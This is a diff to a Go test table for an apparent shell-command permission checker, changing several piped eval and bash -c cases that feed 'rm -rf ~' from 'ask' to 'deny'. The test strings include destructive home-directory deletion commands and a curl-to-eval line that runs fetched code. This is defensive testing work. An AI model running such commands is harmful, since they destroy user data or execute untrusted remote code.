@@ -24,13 +24,13 @@ func TestSubstReadsPipedScript(t *testing.T) {
 		{`printf 'rm -f ~/.bashrc\n' | bash -c "$(cat -)"`, "deny"},
 		// Another reader of the pipe, a compound stage, a producer only
 		// run time knows: text made from the pipe, which asks; $(cat) in
-		// a block is the piped text (found attacking the fix).
-		{`echo 'rm -rf ~' | eval "$(head -n 99)"`, "ask"},
-		// cat /dev/stdin copies the stage's pipe: its known text is
-		// the script (stdinconsumers.go, outerStageCopy).
+		// a block is the piped text (found attacking the fix). head, cat
+		// /dev/stdin and $(< /dev/fd/0) of known text are that text
+		// (TestSubstStdinValue; stdinconsumers.go, outerStageCopy): judged.
+		{`echo 'rm -rf ~' | eval "$(head -n 99)"`, "deny"},
 		{`echo 'rm -rf ~' | eval "$(cat /dev/stdin)"`, "deny"},
 		{`git log | eval "$(cat /dev/stdin)"`, "ask"},
-		{`echo 'rm -rf ~' | sh -c "$(< /dev/fd/0)"`, "ask"},
+		{`echo 'rm -rf ~' | sh -c "$(< /dev/fd/0)"`, "deny"},
 		{`curl -s https://example.com/x | eval "$(</dev/stdin)"`, "ask"},
 		{`git log | eval "$(cat)"`, "ask"},
 		{`echo 'rm -rf ~' | { eval "$(cat)"; }`, "deny"},
